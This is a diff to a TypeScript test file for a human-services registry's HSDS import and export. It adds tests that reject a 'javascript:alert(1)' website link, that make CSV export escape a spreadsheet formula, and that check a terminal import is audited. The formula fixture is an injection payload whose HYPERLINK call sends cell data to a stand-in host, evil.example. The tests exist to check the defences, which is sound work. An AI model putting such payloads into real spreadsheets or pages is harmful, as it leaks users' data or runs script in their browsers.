@@ -11,6 +11,9 @@ import { translatorFor } from '../core/i18n.js';
 import { loadDemoData } from '../demo/demo.service.js';
 import { helpTypeTermId } from './help-types.js';
 import { openTestDatabase } from '../testing/test-database.js';
+import type { CommandContext } from '../cli/commands.js';
+import { testConfig } from '../testing/test-database.js';
+import { hsdsCommands } from './hsds.cli.js';
 import { exportHsds } from './hsds-export.js';
 import { importHsds } from './hsds-import.js';
 import { countRegistryRows } from './hsds-import.repository.js';
@@ -427,6 +430,52 @@ test('a malformed file is rejected whole, with one message per bad record, and t
   });
 });
 
+test('a javascript: link is rejected with its own message, and nothing is imported', async () => {
+  await withDatabase(async (db) => {
+    const directory = temporaryDirectory();
+    const organization = { ...readJson(example('organization_full.json')), website: 'javascript:alert(1)' };
+    writeFileSync(join(directory, 'bad.json'), JSON.stringify(organization));
+    const before = await countRegistryRows(db);
+    const error = await importHsds(db, join(directory, 'bad.json')).then(
+      () => assert.fail('the import should be rejected'),
+      (caught: unknown) => caught,
+    );
+    assert.ok(error instanceof AppError);
+    const [record] = describeRecords(error);
+    assert.match(
+      record!.message,
+      /website is a link the registry does not accept \(only http:, https:, mailto: and tel: links are allowed\): "javascript:alert\(1\)"/,
+    );
+    assert.deepEqual(await countRegistryRows(db), before);
+  });
+});
+
+test('the tabular export writes text a spreadsheet would run as a formula as text, and imports it back unchanged', async () => {
+  await withDatabase(async (db) => {
+    const directory = temporaryDirectory();
+    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
+    const organization = { ...readJson(example('organization_full.json')), description: formula, alternate_name: '-5' };
+    writeFileSync(join(directory, 'formula.json'), JSON.stringify(organization));
+    const { directory: exported, organizations } = await importAndExport(db, join(directory, 'formula.json'));
+    assert.equal(
+      organizations.find((row) => row.id === organization.id)?.description,
+      formula,
+      'JSON is not a spreadsheet',
+    );
+    const [header, ...rows] = parseCsv(
+      readFileSync(join(exported, 'tabular', 'organizations.csv'), 'utf8'),
+    ) as string[][];
+    const row = rows.find((cells) => cells[header!.indexOf('id')] === organization.id)!;
+    assert.equal(row[header!.indexOf('description')], `'${formula}`);
+    assert.equal(row[header!.indexOf('alternate_name')], '-5', 'a number is data');
+    assert.equal(row[header!.indexOf('year_incorporated')], '2011');
+    await withDatabase(async (second) => {
+      const { organizations: again } = await importAndExport(second, join(exported, 'tabular'));
+      assert.equal(again.find((row) => row.id === organization.id)?.description, formula);
+    });
+  });
+});
+
 test('references to records neither in the file nor in the registry, and repeated ids, are rejected', async () => {
   await withDatabase(async (db) => {
     const directory = temporaryDirectory();
@@ -600,3 +649,27 @@ function describeRecords(error: AppError): { path: string; message: string }[] {
     byPath.set(detail.path, [...(byPath.get(detail.path) ?? []), t(detail.messageKey, detail.parameters)]);
   return [...byPath].map(([path, messages]) => ({ path, message: messages.join('; ') }));
 }
+
+test('an import from the terminal is audited with its counts', async () => {
+  await withDatabase(async (db) => {
+    const command = hsdsCommands.find((candidate) => candidate.name === 'import')!;
+    const printed: string[] = [];
+    const context: CommandContext = {
+      db,
+      config: testConfig(),
+      args: [example('organization_full.json')],
+      print: (line) => printed.push(line),
+      progress: () => {},
+    };
+    assert.equal(await command.run(context), 0);
+    const events = await db
+      .selectFrom('audit_event')
+      .select(['account_id', 'details'])
+      .where('action', '=', 'registry.hsds.import')
+      .execute();
+    assert.equal(events.length, 1);
+    assert.equal(events[0]!.account_id, null);
+    assert.equal((events[0]!.details as { via: string; organization: number }).via, 'cli');
+    assert.equal((events[0]!.details as { organization: number }).organization, 1);
+  });
+});
